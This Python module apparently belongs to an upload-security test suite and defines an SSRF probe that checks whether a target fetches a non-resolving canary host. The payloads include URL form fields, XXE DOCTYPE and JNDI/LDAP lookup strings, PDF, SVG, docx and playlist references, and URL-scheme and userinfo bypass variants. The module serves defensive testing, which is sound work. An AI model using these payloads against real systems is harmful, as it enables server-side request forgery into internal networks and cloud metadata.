"""An upload that makes the target fetch something.

What it does
    Names a host that does not exist where a target may look for something to fetch: in form
    fields that are called ``url`` and the like, in the text of a file, in a PDF, in the metadata
    of a picture, in play lists, drawings and office documents under their own names. It also
    names the content itself, as a ``data:`` URL.

Why it works
    A request that the server sends comes from inside: it reaches the database, the cloud's
    metadata, the printer. "Upload from URL", previews of links and parsers that follow
    references send it wherever the client says.

Expected defence
    Nothing is fetched. A target that has to has a list of where it may go.

References
    - CWE-918
    - OWASP ASVS v5.0.0-1.3.6, v5.0.0-13.2.4; WSTG-INPV-19
    - RFC 2397 (data URLs), RFC 2606, section 2 (names that never resolve)
"""

from __future__ import annotations

import base64
from dataclasses import replace

from hypothesis import strategies as st

from attacks.model import (
    GENERATED,
    Attack,
    Body,
    Demand,
    Exchange,
    Probe,
    Profile,
    SentFile,
    Severity,
)
from attacks.oracles.canaries import FETCHED, HOST
from attacks.oracles.no_egress import no_egress
from attacks.strategies.archives import Member, zipped
from attacks.strategies.documents import pdf
from attacks.strategies.images import HIDERS
from attacks.strategies.typed import TEXTS, Tables, from_tables, honest_each
from attacks.uploads import form_for, honest_file, honest_name, part_for, post, upload
from attacks.wire.multipart import text_part

URL = f"http://{HOST}/gauntlet.txt".encode()
DATA = b"data:text/plain;base64," + base64.b64encode(FETCHED)
FIELDS = ("url", "file_url", "remote_url", "src", "link", "callback")
TEXT = {
    "link": b"See " + URL + b" for more.\n",
    "page": b'<img src="' + URL + b'"><link rel=stylesheet href="' + URL + b'">\n',
    "doctype": b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "' + URL + b'">\n<r/>\n',
    "play-list": b"#EXTM3U\n#EXTINF:1,\n" + URL + b"\n",
    "lookup": b"${jndi:ldap://" + HOST.encode() + b"/a}\n",
}
TABLES: Tables = {
    **dict.fromkeys(TEXTS, TEXT),
    "pdf": {
        "opens": pdf(catalog=b"/OpenAction << /S /URI /URI (" + URL + b") >>"),
        "file-elsewhere": pdf(catalog=b"/AF [<< /Type /Filespec /FS /URL /F (" + URL + b") >>]"),
    },
    **{e: {"hidden": next(iter(HIDERS[e].values()))(TEXT["doctype"])} for e in ("png", "jpg")},
}

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
RELATION = b'<Relationships><Relationship Id="a" TargetMode="External" Target="' + URL + b'"/>'
# Under names of their own, for a converter that knows them. An AVI may hold a play list as its
# subtitles, which a player of it opens.
OWN = {
    "svg-image": ("svg", SVG + b'<image l:href="' + URL + b'"/></svg>'),
    "svg-frame": (
        "svg",
        SVG + b'<foreignObject><iframe src="' + URL + b'"/></foreignObject></svg>',
    ),
    "play-list": ("m3u8", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n" + URL + b"\n"),
    "subtitles": ("avi", b"RIFF\xff\0\0\0AVI LIST\0\0\0\0GAB2\0\x02\0#EXTM3U\n" + URL + b"\n"),
    "relation": ("docx", zipped([Member(name=b"word/_rels/document.xml.rels", data=RELATION)])),
    "shortcut": ("url", b"[InternetShortcut]\r\nURL=" + URL + b"\r\n"),
}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return each field with and without a file, then each file that names the host."""
    asked = (_field(profile, name, URL, f"field-{name.replace('_', '-')}") for name in FIELDS)
    instead = _instead(profile)
    own = (_own(profile, name) for name in OWN)
    return (*asked, instead, *from_tables(profile, TABLES, demand=Demand.EITHER), *own)


def _own(profile: Profile, name: str) -> Probe:
    extension, content = OWN[name]
    file = SentFile(
        filename=f"remote.{extension}".encode(),
        content=Body((content,)),
        media_type=b"application/octet-stream",
    )
    return Probe(steps=(upload(profile, file),), variant=f"own-{name}")


def _field(profile: Profile, name: str, url: bytes, variant: str = GENERATED) -> Probe:
    file = honest_file(profile)
    form = form_for(profile, text_part(name.encode(), url), part_for(profile, file))
    return Probe(steps=(Exchange(request=post(profile, form), file=file),), variant=variant)


def _instead(profile: Profile) -> Probe:
    """Return a form without a file, whose field stands for one."""
    file = SentFile(
        filename=honest_name(profile, "fetched"),
        content=Body((FETCHED,)),
        media_type=profile.sample.media_type.encode(),
    )
    form = form_for(profile, text_part(b"url", DATA))
    step = Exchange(request=post(profile, form), file=file)
    return Probe(steps=(replace(step, demand=Demand.EITHER),), variant="data-in-place-of-a-file")


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw a field, and the scheme, the user and the path that its URL has."""
    return st.builds(
        lambda name, scheme, user, tail: _field(
            profile, name, scheme + user + HOST.encode() + tail
        ),
        st.sampled_from(FIELDS),
        st.sampled_from((b"http://", b"https://", b"ftp://", b"gopher://", b"ldap://", b"//")),
        st.sampled_from((b"", b"localhost@", b"a:b@", b"localhost%00@")),
        st.sampled_from((b"/a", b":80/a.txt", b"#localhost", b"?a=.png")),
    )


ATTACK = Attack(
    id="content.remote-reference",
    title="An upload that makes the target fetch",
    severity=Severity.HIGH,
    controls=("no-egress",),
    cwe=(918,),
    asvs=("v5.0.0-1.3.6", "v5.0.0-13.2.4"),
    wstg=("WSTG-INPV-19",),
    oracles=(no_egress,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *TEXTS),
)
